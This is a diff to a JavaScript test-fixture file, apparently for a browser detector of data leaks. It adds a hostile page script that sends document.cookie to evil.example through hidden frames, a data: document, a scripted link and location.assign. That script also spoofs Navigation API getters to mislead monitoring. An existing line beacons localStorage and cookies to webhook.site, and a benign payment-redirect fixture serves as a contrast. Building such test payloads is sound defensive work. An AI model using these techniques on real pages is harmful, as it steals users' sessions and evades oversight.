@@ -399,6 +399,47 @@ export const MAIN_WORLD_SCRIPTS = {
   window.__deferred = true;
 })();`,
 
+  /**
+   * Carries the cookie off in navigations, which no request API makes: frames with shop documents of their
+   * own, one sent away through its Location, one by a scripted click on a link that targets it, one given a
+   * data: document that sends it; and the page itself by location.assign (where the browser has the
+   * Navigation API, this helper cancels its own top-level navigation so the test keeps the page). First it
+   * makes the page's navigate-event getters lie: every navigation the person's, and to the shop.
+   */
+  navigations: `(() => {
+  const c = encodeURIComponent(document.cookie);
+  let urlOf = (d) => d.url;
+  if (typeof navigation === 'object') {
+    const get = Object.getOwnPropertyDescriptor(NavigationDestination.prototype, 'url').get;
+    urlOf = (d) => get.call(d);
+    Object.defineProperty(NavigationDestination.prototype, 'url', { get: () => location.origin + '/kz/', configurable: true });
+    Object.defineProperty(NavigateEvent.prototype, 'userInitiated', { get: () => true, configurable: true });
+  }
+  const frame = (name) => {
+    const f = document.createElement('iframe');
+    f.name = name;
+    f.hidden = true;
+    f.src = '/kz/pages/questions';
+    document.body.appendChild(f);
+    return new Promise((resolve) => (f.onload = () => resolve(f)));
+  };
+  Promise.all([frame('saq-nav-a'), frame('saq-nav-b'), frame('saq-nav-c')]).then(([a, , d]) => {
+    a.onload = d.onload = null;
+    a.contentWindow.location.href = 'https://evil.example/nav-frame?c=' + c;
+    d.contentWindow.location.replace('data:text/html,<script>fetch("https://evil.example/nav-data?c=' + c + '", { mode: "no-cors" })</script>');
+    const link = document.createElement('a');
+    link.href = 'https://evil.example/nav-link?c=' + c;
+    link.target = 'saq-nav-b';
+    document.body.appendChild(link);
+    link.click();
+    if (typeof navigation === 'object') {
+      navigation.addEventListener('navigate', (e) => urlOf(e.destination).includes('/nav-top') && e.preventDefault());
+      location.assign('https://evil.example/nav-top?c=' + c);
+    }
+    window.__navigated = true;
+  });
+})();`,
+
   /** Leaks storage by sendBeacon to a webhook site. */
   'beacon-storage': `navigator.sendBeacon('https://webhook.site/5c1a-test', JSON.stringify({ ...localStorage, cookie: document.cookie }));`,
 
@@ -692,6 +733,42 @@ export const BENIGN = {
   shut(document.open('https://share.example/dialog?u=' + here, 'share-dialog', ''));
   shut(window.open('/kz/pages/questions', 'help'));
   window.__shared = true;
+})();`,
+  /**
+   * The shop sending its own frames and itself to its payment provider, its cookie in the URL: a frame's
+   * Location, a link it clicks into a frame, and location.assign (cancelled by the shop where the browser
+   * has the Navigation API, so the test keeps the page); and a link to a partner the person clicks.
+   */
+  'pay-navigations': `(() => {
+  const ref = encodeURIComponent(document.cookie);
+  const frame = (name) => {
+    const f = document.createElement('iframe');
+    f.name = name;
+    f.hidden = true;
+    f.src = '/kz/pages/questions';
+    document.body.appendChild(f);
+    return new Promise((resolve) => (f.onload = () => resolve(f)));
+  };
+  Promise.all([frame('pay-a'), frame('pay-b')]).then(([a]) => {
+    a.onload = null;
+    a.contentWindow.location.href = 'https://pay.example/checkout?ref=' + ref;
+    const link = document.createElement('a');
+    link.href = 'https://pay.example/3ds?ref=' + ref;
+    link.target = 'pay-b';
+    document.body.appendChild(link);
+    link.click();
+    const partner = document.createElement('a');
+    partner.id = 'partner';
+    partner.href = 'https://share.example/guide?ref=' + ref;
+    partner.target = 'pay-b';
+    partner.textContent = 'Нұсқаулық';
+    document.body.appendChild(partner);
+    if (typeof navigation === 'object') {
+      navigation.addEventListener('navigate', (e) => e.destination.url.includes('/pay-top') && e.preventDefault());
+      location.assign('https://pay.example/pay-top?ref=' + ref);
+    }
+    window.__paid = true;
+  });
 })();`,
   /**
    * The shop's receipt shown in documents made from strings: a blob: frame (a generated page), a data:
